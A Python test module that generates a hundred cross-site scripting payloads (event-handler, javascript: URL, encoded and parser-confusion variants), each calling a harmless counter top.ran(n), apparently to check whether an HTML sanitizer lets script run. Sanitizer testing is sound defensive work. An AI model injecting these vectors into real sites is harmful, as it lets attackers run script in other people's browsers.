"""A hundred texts that run something where they are taken for HTML.

What they run is ``ran(N)`` of the window they are in, or of one that this one is in.
"""

RUN = "top.ran({n})"
# Each is run by the page's own parser when it is set as innerHTML, without anybody's doing.
_HANDLERS = (
    '<img src=x: onerror="{run}">',
    "<img src=x: onerror='{run}'>",
    "<IMG SRC=x: OnErRoR={run}>",
    "<img\nsrc=x:\nonerror\n=\n{run}\n>",
    "<img\tsrc=x:\tonerror={run}\t>",
    "<img src=x: onerror=&#116;op.ran({n})>",
    "<img src=x: onerror=&#x74;op.ran({n})>",
    "<img src=x: onerror=\"eval('{run}')\">",
    "<img src=x: onerror=\"Function('{run}')()\">",
    "<img src=x: onerror=\"setTimeout('{run}')\">",
    '<img src="data:," onerror="{run}">',
    '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onerror="{run}" onload="{run}">',
    '<image src=x: onerror="{run}">',
    '<svg><image href=x: onerror="{run}"></svg>',
    '<svg><animate onbegin="{run}" attributeName=x dur=1s>',
    '<svg><set onbegin="{run}" attributeName=x>',
    '<svg><animateTransform onbegin="{run}" attributeName=transform dur=1s>',
    "<video src=x: onerror={run}></video>",
    "<video><source onerror={run}></video>",
    "<audio src=x: onerror={run}></audio>",
    "<audio><source onerror={run}></audio>",
    "<video poster=x: src=x: onerror={run}></video>",
    "<iframe onload={run}></iframe>",
    "<iframe src=about:blank onload={run}></iframe>",
    '<iframe srcdoc="<script>top.ran({n})</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x: onerror=top.ran({n})&gt;"></iframe>',
    '<iframe src="javascript:top.ran({n})"></iframe>',
    '<iframe src="JaVaScRiPt:top.ran({n})"></iframe>',
    '<iframe src="java\nscript:top.ran({n})"></iframe>',
    '<iframe src="&#106;avascript:top.ran({n})"></iframe>',
    '<details open ontoggle="{run}">x</details>',
    '<style onload="{run}"></style>',
    '<link rel=stylesheet href="data:text/css," onload="{run}">',
    '<link rel=stylesheet href=x: onerror="{run}">',
    '<img/src="x:"/onerror={run}>',
    "<img src=x: onerror={run};//>",
    '<svg><animateMotion onbegin="{run}" dur=1s>',
    '<svg><animate onend="{run}" attributeName=x dur=0.01s>',
    '<svg><foreignObject><img src=x: onerror="{run}"></foreignObject></svg>',
    '<svg><desc><img src=x: onerror="{run}"></desc></svg>',
    '<svg><style><img src=x: onerror="{run}"></style></svg>',
    '<svg></p><img src=x: onerror="{run}">',
    '<math><style><img src=x: onerror="{run}"></style></math>',
    '<math><mtext><img src=x: onerror="{run}"></mtext></math>',
    '<table><img src=x: onerror="{run}"></table>',
    '<xmp></xmp><img src=x: onerror="{run}">',
    '<!--><img src=x: onerror="{run}">-->',
    '<![CDATA[><img src=x: onerror="{run}">]]>',
    '<?xml version="1.0"?><img src=x: onerror="{run}">',
    '<a href="#"><img src=x: onerror="{run}"></a>',
)
# Around each of these: ends of whatever it might stand in.
_ENDS = ("", '">', "'>", "-->", "</textarea>", "</title>", "</style>", "</script>", "]]>", "*/")


def _payloads() -> list[str]:
    found = []
    for number in range(100):
        text = _HANDLERS[number % len(_HANDLERS)]
        if number >= len(_HANDLERS):
            text = _ENDS[number % len(_ENDS)] + text
        found.append(text.format(run=RUN.format(n=number), n=number))
    return found


PAYLOADS = _payloads()
# What a page counts them with, and what would be run by a link or a style that is taken over.
COUNT = "<script>window.all = new Set(); window.ran = (number) => all.add(number);</script>"
